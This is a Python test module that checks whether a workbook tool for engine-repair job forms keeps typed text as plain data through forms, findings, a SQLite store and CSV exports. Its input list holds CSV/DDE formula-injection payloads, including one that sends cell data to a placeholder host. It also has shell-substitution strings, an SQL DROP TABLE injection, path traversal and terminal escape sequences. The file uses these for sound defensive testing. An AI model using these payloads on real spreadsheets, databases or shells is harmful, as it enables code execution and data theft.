"""Texts that people type are data: through form, findings, register, store and CSV they stay what they were.

The beginnings that a spreadsheet program runs as a formula are those of OWASP's page on CSV injection (from memory);
the escapes of the file format are those of ECMA-376 part 1, 22.9.2.19 (ST_Xstring). `python -m tests.test_text_is_data`
puts every text into every place.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import sys
import tempfile
import zipfile
from contextlib import closing, redirect_stdout
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from tests.support.office import Office
from workbook_tools.checking.check import check_workbook
from workbook_tools.commands.program import main
from workbook_tools.generate.fill import LONGEST_TEXT, fill_workbook
from workbook_tools.generate.workbook import new_workbook
from workbook_tools.package.cells import escaped, unescaped, written_out
from workbook_tools.package.parts import q
from workbook_tools.read.workbook import read_workbook
from workbook_tools.register.export import harmless, plain_again
from workbook_tools.register.make import make_register

#: Where they are typed; the register has a column of its own for each in its table of jobs.
PLACES = (
    *("job_number", "customer_name", "customer_contact", "technician", "vehicle", "plate", "engine_serial"),
    *("engine_name", "complaint_notes"),
)
TEXTS = (
    # what a spreadsheet program would run
    *("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid","look")'),
    *('=WEBSERVICE("http://example.invalid/"&A1)', "=Findings!A1", "{=1+1}", "=1+1\n=2+2", "-", "-5", "+49 30 1234"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(1)", "a\n=1+1", 'x";=1+1;"', "'=1+1", "'quoted'", "''", "\u200b=1+1"),
    # markup, and what footers, formats and links read into a text
    *("<b>bold</b>", "&amp; &lt;", "]]>", "<!-- -->", "&L&D&[File]", "%s %n {0} {job}", "[look](http://example.invalid)"),
    *("http://example.invalid/a b", "mailto:nobody@example.invalid", "#Job!A1", "internal:'Job'!A1", "external:x.xlsx"),
    # other things that a program would make of them
    *("007", "1e5", "1/2", "TRUE", "3-4", "NaN", "None", "null", "NA", "n/a", "0x10", "12,50", "2026-01-05", "\ufeffmark"),
    # the escapes of the file format and characters that it can't hold
    *("_x0041_", "_x005F_x0041_", "x005F_", "a_x000D_b", "_x0000_", "two\nlines", "a\tb", "trailing_x"),
    # paths and commands
    *("../../up", "..\\..\\up", "/etc/up", "C:\\up", "~", "CON", "a/b", "$(touch up)", "`touch up`"),
    "x'); DROP TABLE register_jobs;--",
    # letters of the world
    *("\u0645\u0631\u062d\u0628\u0627 17", "\u05e9\u05dc\u05d5\u05dd", "\u202egnp.exe", "e\u0301", "\ufb01"),
    "\U0001f527\U0001f469\U0001f3fd\u200d\U0001f527",
    *("\U0001f527" * 400, "\ufffd", "x" * LONGEST_TEXT, "=" * LONGEST_TEXT, "a" + "\u0301" * 500, "word " * 6000 + "end"),
)  # fmt: skip
#: A text that a sheet can't hold, and how it is written out.
WRITTEN_OUT = {
    "\x1b[31mred": "_x001B_[31mred",
    "a\x00b": "a_x0000_b",
    "\ud83d": "_xD83D_",
    "\x07\x08": "_x0007__x0008_",
    "a\r\nb\rc": "a\nb\nc",
    "\uffff": "_xFFFF_",
}
#: What a spreadsheet program runs at the beginning of a field; the wide ones in programs for the East.
RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: What ends a cell in one program or another, and what would then be run.
ENDS = (",", ";", "\t", "|", "\n", "; ", ", ", " ;", ";\t", "|\n", ';"', '";"', ";;")
RUN_LATER = ("=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\uff1d1+1", "'=1+1")
BLANK = Path("blank.xlsx")


def expected(text: str) -> str:
    """A text as it must arrive."""
    return WRITTEN_OUT.get(text, text)


def make_jobs(folder: Path, jobs: list[list[str]]) -> list[Path]:
    """Filled forms, one for each list of texts in the order of PLACES."""
    blank = new_workbook(folder / BLANK, cylinders=1)
    paths = []
    for number, texts in enumerate(jobs):
        path = folder / "jobs" / f"{number:03}.xlsx"
        path.parent.mkdir(exist_ok=True)
        readings = dict(zip(PLACES, texts, strict=True))
        fill_workbook(blank, readings | {"date_in": "2026-01-05", "concluded_cylinders_1": texts[0]}, path)
        paths.append(path)
    return paths


def lost_in_form(path: Path, texts: list[str]) -> list[str]:
    """Texts that are not in the form as they were typed."""
    cells = read_workbook(path).cells
    return [
        f"form: {name} {text[:60]!r}"
        for name, text in zip(PLACES, texts, strict=True)
        if cells[name].raw != expected(text)
    ]


def changed_in_findings(path: Path, texts: list[str], out: Path) -> list[str]:
    """What a check made of them: formulas or links on the findings sheet, another job number, a file elsewhere."""
    before = {each for each in out.parent.rglob("*") if out not in each.parents}
    checked = check_workbook(path, out_dir=out)
    said = [
        f"a file elsewhere: {each}"
        for each in {e for e in out.parent.rglob("*") if out not in e.parents} - before - {out}
    ]
    target = out / path.name
    book = openpyxl.load_workbook(target, read_only=True)
    shown = {
        "\n".join(str(value).split())
        for row in book[checked.sheet].iter_rows(values_only=True)
        for value in row
    }
    book.close()
    job = expected(texts[0]).strip()
    if (
        not any("\n".join(job.split())[:200] in each for each in shown)
        and checked.diagnosis.job_number != job
    ):
        said.append(f"findings: job {job[:60]!r} is not shown")
    if json.loads(json.dumps(checked.as_json()))["job_number"] != job:
        said.append(f"json: job {job[:60]!r} became {checked.as_json()['job_number']!r:.60}")
    with zipfile.ZipFile(path) as given, zipfile.ZipFile(target) as archive:
        for name in set(archive.namelist()) - set(given.namelist()):
            part = archive.read(name)
            said += [f"findings: a link to {name}"] * (b"example.invalid" in part and name.endswith(".rels"))
            if name.endswith((".xml", ".rels")):
                said += [
                    f"findings: a formula {each.text:.60}" for each in etree.fromstring(part).iter(q("f"))
                ]
    return said


def changed_in_register(folder: Path, jobs: list[list[str]]) -> list[str]:
    """What the register, its store and its CSV files made of them."""
    out, tables = folder / "register.xlsx", folder / "csv"
    make_register(folder / "jobs", out, csv_dir=tables)
    said = []
    with closing(sqlite3.connect(folder / "register.store.sqlite")) as store:
        stored = store.execute(f"SELECT {', '.join(PLACES)} FROM register_jobs").fetchall()
    wanted = sorted(tuple(expected(text).strip() for text in texts) for texts in jobs)
    said += [
        f"store: {one[:3]!r:.80} became {other[:3]!r:.80}"
        for one, other in zip(wanted, sorted(stored), strict=True)
        if one != other
    ]
    with (tables / "jobs.csv").open(newline="", encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    said += [
        f"csv: {name} could be run: {row[name][:40]!r}"
        for row in rows
        for name in PLACES
        if row[name].startswith(RUN)
    ]
    plain = sorted(tuple(plain_again(row[name]) for name in PLACES) for row in rows)
    said += [
        f"csv: {one!r:.200} became {other!r:.200}"
        for one, other in zip(wanted, plain, strict=True)
        if one != other
    ]
    formulas = formulas_in(out)
    typed = {text.lstrip("=") for texts in jobs for text in texts if len(text.lstrip("=")) > 4}
    said += [f"register: a formula {each[:60]}" for each in formulas if any(text in each for text in typed)]
    book = openpyxl.load_workbook(out)
    numbers = {
        str(cell.value)
        for row in book["Jobs"].iter_rows()
        for cell in row
        if cell.value is not None and cell.data_type == "s"
    }
    # openpyxl does not undo the file format's escapes, and a long text is cut on the sheet.
    shown = [
        expected(texts[0])
        for texts in jobs
        if "_x" not in expected(texts[0]) and "x005F_" not in texts[0] and len(texts[0]) < 100
    ]
    said += [f"register: job {text!r} is not shown" for text in shown if text.strip() not in numbers]
    return said


def changes(folder: Path, jobs: list[list[str]]) -> list[str]:
    """All that was lost or changed on the whole way."""
    said = []
    for path, texts in zip(make_jobs(folder, jobs), jobs, strict=True):
        said += lost_in_form(path, texts) + changed_in_findings(path, texts, folder / "checked")
    return said + changed_in_register(folder, jobs)


def spread_over_places(texts: list[str]) -> list[list[str]]:
    """Every text once, as many to a job as there are places."""
    texts = texts + [f"filler {n}" for n in range(-len(texts) % len(PLACES))]
    return [texts[start : start + len(PLACES)] for start in range(0, len(texts), len(PLACES))]


def test_texts_arrive_as_they_were_typed(tmp_path: Path) -> None:
    """Formulas, markup, escapes, paths, long texts and all scripts arrive everywhere as they were, and none is run."""
    assert changes(tmp_path, spread_over_places([*TEXTS, *WRITTEN_OUT])) == []


def test_another_program_reads_the_texts_as_they_were_typed(tmp_path: Path, office: Office) -> None:
    """LibreOffice shows in a filled form what was typed, the file format's escapes undone."""
    # An apostrophe before a text is its own sign for "this is text".
    texts = [text for text in [*TEXTS, *WRITTEN_OUT] if len(text) < 1000]
    jobs = spread_over_places(texts)
    for path, job in zip(make_jobs(tmp_path, jobs), jobs, strict=True):
        shown = office.read_names(path, PLACES)
        assert [shown[name] for name in PLACES] == [expected(text) for text in job]


#: What LibreOffice may be told to end cells at, by its number, and what to take for quotes (single ones would take the guard away).
SEPARATORS = {
    "comma": "44",
    "semicolon": "59",
    "tab": "9",
    "stroke": "124",
    "space": "32",
    "all": "44/59/9/124/32",
}
QUOTES = {"double": "34", "none": ""}


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The register's tables with all texts in them, and a formula in one beside them for each separator."""
    folder = tmp_path_factory.mktemp("tables")
    texts = [text for text in TEXTS if len(text) < 1000]
    make_jobs(
        folder, spread_over_places([*texts, *(f"Smith{end}{text}" for end in ENDS for text in RUN_LATER)])
    )
    make_register(folder / "jobs", folder / "register.xlsx", csv_dir=folder / "csv")
    for name, number in SEPARATORS.items():
        end = chr(int(number.split("/")[0]))
        (folder / "csv" / f"control-{name}.csv").write_text(f"Smith{end}=1+1\r\n", encoding="utf-8")
    return folder / "csv"


@pytest.mark.parametrize("quotes", QUOTES)
@pytest.mark.parametrize("separator", SEPARATORS)
def test_another_program_runs_nothing_of_the_tables(
    tables: Path, tmp_path: Path, office: Office, separator: str, quotes: str
) -> None:
    """LibreOffice, told to run formulas in CSV files, finds none in the tables, whatever it ends cells at; one beside them."""
    # All columns as they come, formulas are to be run.
    reading = f"{SEPARATORS[separator]},{QUOTES[quotes]},76,1,,0,false,true,false,false,false,-1,true"
    run = {}
    for table in [*sorted(tables.glob("[!c]*.csv")), tables / f"control-{separator}.csv"]:
        office.resave(table, tmp_path / "read.xlsx", reading=reading)
        run[table.name] = formulas_in(tmp_path / "read.xlsx")
    assert len(run) >= 6
    assert {name: each for name, each in run.items() if each} == {f"control-{separator}.csv": ["1+1"]}


def formulas_in(path: Path) -> list[str]:
    """The formulas on a workbook's sheets."""
    with zipfile.ZipFile(path) as archive:
        return [
            formula.text or ""
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
            for formula in etree.fromstring(archive.read(name)).iter(q("f"))
        ]


@settings(deadline=None, max_examples=500)
@given(st.text(max_size=40) | st.text(alphabet="=+-@'\" ,;\t|\n\rab1\u200b\uff1d", max_size=40))
def test_texts_of_the_tables_come_back_and_none_is_run(text: str) -> None:
    """Whatever a program ends cells at, no part of a text can be run; and the text can be had as it was typed."""
    written = harmless(text)
    assert plain_again(written) == text
    for cell in re.split(r"[,;\t|\r\n]", written):
        assert not cell.strip('\u200b "').startswith(("=", "+", "-", "@", "\uff1d")), written
    for word in written.split(" "):
        assert not re.match(r"=\S", word), written
    assert not written.startswith(RUN)


@settings(deadline=None)
@given(st.text(max_size=40) | st.text(alphabet="_x05Fdb\r\n\x00\x1b\ud83d\ude00", max_size=40))
def test_escapes_of_the_file_format_come_back(text: str) -> None:
    """What is written as the file format wants it is read as it was, but for what no sheet can show."""
    assert unescaped(escaped(text)) == written_out(text)
    assert written_out(written_out(text)) == written_out(text)


def test_a_csv_of_texts_is_filled_in_as_it_is(tmp_path: Path) -> None:
    """A list of readings as a CSV file brings the same texts into the form."""
    blank = new_workbook(tmp_path / BLANK, cylinders=1)
    texts = [
        "=1+1",
        "<b>&amp;",
        "_x0041_",
        "two\nlines",
        "'x",
        "\U0001f527",
        "\u202egnp.exe",
        "\x1b[31mred",
        "007",
    ]
    memory = io.StringIO(newline="")
    csv.writer(memory).writerows([("field", "value"), *zip(PLACES, texts, strict=True)])
    (tmp_path / "readings.csv").write_text(memory.getvalue(), encoding="utf-8", newline="")
    assert main(["fill", str(blank), str(tmp_path / "readings.csv"), "-o", str(tmp_path / "out.xlsx")]) == 0
    assert lost_in_form(tmp_path / "out.xlsx", texts) == []


@pytest.mark.parametrize(
    "job", ["=1+1", "../../up", "\x1b[31mred", "\ud83d", "&L&D", "<b>", "x" * LONGEST_TEXT], ids=range(7)
)
def test_a_job_number_given_with_new_is_text(tmp_path: Path, job: str) -> None:
    """A job number on the command line names no file and runs nothing: it stands in its cell."""
    assert main(["new", str(tmp_path / "form.xlsx"), "--job", job]) == 0
    assert [path.name for path in tmp_path.iterdir()] == ["form.xlsx"]
    assert read_workbook(tmp_path / "form.xlsx").cells["job_number"].raw == expected(job)


@pytest.mark.parametrize(
    "text", ["\x1b[2J\x1b]0;title\x07", "a\rb", "\u202egnp.exe", "\x9b31m", "\ud83d", "a\x00b"], ids=range(6)
)
def test_nothing_that_was_typed_commands_a_terminal(
    tmp_path: Path, text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Control characters and turned text from cells, names and options are written out, not obeyed."""
    blank = new_workbook(tmp_path / BLANK, cylinders=1)
    fill_workbook(
        blank, {"job_number": text, "compression_dry_1": text, "needle": text}, tmp_path / "job.xlsx"
    )
    assert main(["check", str(tmp_path / "job.xlsx"), "--out-dir", str(tmp_path / "out")]) == 0
    assert main(["check", str(tmp_path), "--out-dir", str(tmp_path / "out")]) == 0
    assert main(["new", str(tmp_path / "no.xlsx"), "--banks", text]) == 2
    assert main(["new", str(tmp_path / "no.xlsx"), "--firing-order", text]) == 2
    job = tmp_path / ("no.xlsx" if "\x00" in text else f"as {text}.xlsx".replace("\ud83d", "\udcff"))
    (tmp_path / "job.xlsx").rename(job)
    before = capsys.readouterr()
    assert main(["check", str(job), "--out-dir", str(tmp_path / "other"), "--json"]) == 0
    printed = capsys.readouterr()
    assert json.loads(printed.out)["workbook"] == str(job)
    if "\x00" not in text:
        assert main(["check", f"no {text}.xlsx"]) == 2
    told = capsys.readouterr()
    for each in (before.err, before.out, printed.err, printed.out, told.err, told.out):
        assert not [c for c in each if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c == "\u202e"]
        each.encode("utf-8")


def run_all() -> int:
    """Every text in every place; returns how many were lost or changed."""
    texts, said = [*TEXTS, *WRITTEN_OUT], []
    for number, text in enumerate(texts):
        with tempfile.TemporaryDirectory() as folder, redirect_stdout(io.StringIO()):
            said += changes(Path(folder), [[text] * len(PLACES)])
        print(f"\r{number + 1} of {len(texts)} texts", end="", file=sys.stderr)
    print(f"\n{len(texts)} texts in {len(PLACES)} places each: {len(said)} lost or changed")
    print("\n".join(said))
    return len(said)


if __name__ == "__main__":
    sys.exit(1 if run_all() else 0)
